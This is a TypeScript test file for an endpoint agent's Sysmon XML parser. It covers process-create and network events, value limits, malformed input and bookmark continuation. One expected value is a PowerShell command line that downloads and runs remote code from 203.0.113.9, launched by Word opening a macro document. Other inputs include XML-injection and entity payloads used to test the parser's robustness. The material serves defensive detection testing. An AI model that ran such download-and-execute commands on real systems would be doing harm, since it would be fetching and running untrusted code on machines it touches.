// Sysmon events 1 and 3 from `wevtutil qe ... /f:xml` output written from
// Sysmon's event schema (test/fixtures/sysmon), hostile values included, and
// the bookmark that says where the next query continues.

import t from "tap";
import { readFileSync } from "node:fs";
import {
  continueFrom,
  decodeText,
  MAX_VALUE_CHARS,
  parseHashes,
  parseSysmonXml,
  sysmonQueryArgs,
  type SysmonNetworkConnect,
  type SysmonProcessCreate,
} from "oddwire-agent/collect/windows/parse-sysmon.js";

const fixture = (name: string): string => readFileSync(new URL(`../fixtures/sysmon/${name}`, import.meta.url), "utf8");

t.test("events 1 and 3; other IDs counted, malformed ones said in words", async (t) => {
  const r = parseSysmonXml(fixture("events.xml"));
  t.equal(r.events.length, 4);
  t.equal(r.otherEvents, 2, "event 5 and event 22");
  t.equal(r.lastRecordId, 10238, "the bookmark covers events in error too: they are not read again");
  t.same(r.errors, [
    "event 10236: no Protocol",
    "event 10237: CommandLine: unknown entity &xxe;",
    'event 10238: provider is "Microsoft-Windows-Security-Auditing", not Microsoft-Windows-Sysmon',
  ]);

  const [p, n, u] = r.events as [SysmonProcessCreate, SysmonNetworkConnect, SysmonNetworkConnect];
  t.same(p, {
    eventId: 1,
    recordId: 10230,
    computer: "WS-0042.corp.example",
    utcTimeMs: Date.UTC(2026, 10, 30, 9, 15, 2, 440),
    processGuid: "{4a1c2b3d-1f2e-6745-2a01-000000002100}",
    processId: 6120,
    image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    user: "CORP\\alice",
    commandLine: `powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"`,
    currentDirectory: "C:\\Users\\alice\\",
    integrityLevel: "Medium",
    hashes: {
      SHA1: "5A7B1E2F4C3D6E8F9A0B1C2D3E4F5A6B7C8D9E0F",
      MD5: "0123456789ABCDEF0123456789ABCDEF",
      SHA256: "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08",
      IMPHASH: "F34D5F2D4577ED6D9CEEC516C1F5A744",
    },
    parentProcessGuid: "{4a1c2b3d-1f2e-6745-2801-000000002100}",
    parentProcessId: 5880,
    parentImage: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    parentCommandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.docm"`,
    truncated: [],
  });
  t.same(n, {
    eventId: 3,
    recordId: 10231,
    computer: "WS-0042.corp.example",
    utcTimeMs: Date.UTC(2026, 10, 30, 9, 15, 1, 998),
    processGuid: "{4a1c2b3d-1f2e-6745-2a01-000000002100}",
    processId: 6120,
    image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    user: "CORP\\alice",
    protocol: "tcp",
    initiated: true,
    family: 4,
    sourceIp: "10.20.0.42",
    sourcePort: 50412,
    sourceHostname: "WS-0042.corp.example",
    destinationIp: "203.0.113.9",
    destinationPort: 80,
    destinationHostname: "-",
    truncated: [],
  });
  t.match(
    u,
    {
      eventId: 3,
      protocol: "udp",
      initiated: false,
      family: 6,
      sourceIp: "fe80::1c2d:3e4f:5a6b:7c8d%12",
      destinationIp: "ff02::fb",
      destinationPort: 5353,
      sourceHostname: "",
      destinationHostname: "",
    },
    "empty <Data/> elements read as empty strings",
  );
});

t.test("hostile values: markup inside values stays text, references decoded, nothing injected", async (t) => {
  const h = parseSysmonXml(fixture("events.xml")).events[3] as SysmonProcessCreate;
  t.equal(h.recordId, 10235);
  t.equal(h.image, "C:\\Users\\alice\\AppData\\Local\\Temp\\<svc>.exe");
  t.equal(h.commandLine, "cmd.exe /c echo </Data><Data Name='Image'>C:\\Windows\\explorer.exe</Data> && echo \u0001\u0007\u001b[31m \u202eexe.txt \u{1F608} café");
  t.same(h.hashes, { MD5: "0123456789ABCDEF0123456789ABCDEF" }, "a malformed hash part is skipped, not trusted");
});

t.test("a CommandLine at Windows' limit is kept whole; a longer one is cut and flagged; an oversize event is refused", async (t) => {
  const template = fixture("template-process.xml");
  const at = parseSysmonXml(template.replace("@COMMANDLINE@", "A".repeat(MAX_VALUE_CHARS)));
  t.same(at.errors, []);
  const e = at.events[0] as SysmonProcessCreate;
  t.equal(e.commandLine.length, MAX_VALUE_CHARS);
  t.same(e.truncated, []);

  // Entities count once decoded: 40,000 "&amp;" are 200,000 characters of XML, 40,000 of value.
  const over = parseSysmonXml(template.replace("@COMMANDLINE@", "&amp;".repeat(40000)));
  const o = over.events[0] as SysmonProcessCreate;
  t.equal(o.commandLine, "&".repeat(MAX_VALUE_CHARS));
  t.same(o.truncated, ["CommandLine"]);

  const huge = parseSysmonXml(template.replace("@COMMANDLINE@", "B".repeat(600 * 1024)));
  t.same(huge.events, []);
  t.match(huge.errors, [/event 20001 is \d+ characters, over 524288/]);
  t.equal(huge.lastRecordId, 20001, "still skipped past");
});

t.test("structural errors: cut output, stray markup, duplicates, bad numbers", async (t) => {
  const template = fixture("template-process.xml");
  const cut = parseSysmonXml(template.slice(0, 300));
  t.match(cut.errors, [/has no <\/Event>/]);
  t.match(parseSysmonXml(template.replace("@COMMANDLINE@", "x<b>y</b>")).errors, [/unexpected markup/]);
  t.match(parseSysmonXml(template.replace("<Data Name='User'>", "<Data Name='ProcessId'>")).errors, [/Data ProcessId appears twice/]);
  t.match(parseSysmonXml(template.replace("<Data Name='ProcessId'>9000", "<Data Name='ProcessId'>-1")).errors, [/ProcessId "-1" is not a number/]);
  t.match(parseSysmonXml(template.replace("2026-11-30 10:00:00.000", "2026-02-30 10:00:00.000")).errors, [/not a real date/]);
  t.match(parseSysmonXml(template.replace("@COMMANDLINE@", "a & b")).errors, [/bare &/]);
  t.match(parseSysmonXml(template.replace("@COMMANDLINE@", "&#0;")).errors, [/not a character/]);
  t.match(parseSysmonXml(template.replace("@COMMANDLINE@", "&#xD800;")).errors, [/not a character/]);
  t.same(parseSysmonXml("").events, []);
  t.same(parseSysmonXml("No events were found.\r\n"), { events: [], errors: [], otherEvents: 0, lastRecordId: 0 });
  t.equal(decodeText("&lt;&#60;&#x3c;", "x"), "<<<");
  t.same(parseHashes(""), {});
});

t.test("bookmark: query after the last record; a cleared log restarts from 0", async (t) => {
  t.same(sysmonQueryArgs(10238, 500), ["qe", "Microsoft-Windows-Sysmon/Operational", "/q:*[System[(EventID=1 or EventID=3) and EventRecordID>10238]]", "/f:xml", "/c:500"]);
  t.throws(() => sysmonQueryArgs(-1, 10), /not a record id/);
  t.throws(() => sysmonQueryArgs(1, 0), /not a positive count/);
  t.same(continueFrom(10238, 10500), { afterRecordId: 10238, reason: null });
  t.same(continueFrom(10238, 10238), { afterRecordId: 10238, reason: null }, "nothing new");
  t.match(continueFrom(10238, 12), { afterRecordId: 0, reason: /cleared or recreated/ });
  t.match(continueFrom(10238, null), { afterRecordId: 0, reason: /empty.*cleared/ });
  t.same(continueFrom(0, null), { afterRecordId: 0, reason: null });

  // Two reads in a row: the second continues where the first stopped, nothing repeated.
  const all = fixture("events.xml");
  const split = all.indexOf("<Event xmlns", all.indexOf("<EventRecordID>10232"));
  const first = parseSysmonXml(all.slice(0, split));
  const second = parseSysmonXml(all.slice(split));
  t.equal(first.lastRecordId, 10232);
  t.same(
    [...first.events, ...second.events].map((e) => e.recordId),
    [10230, 10231, 10233, 10235],
  );
});
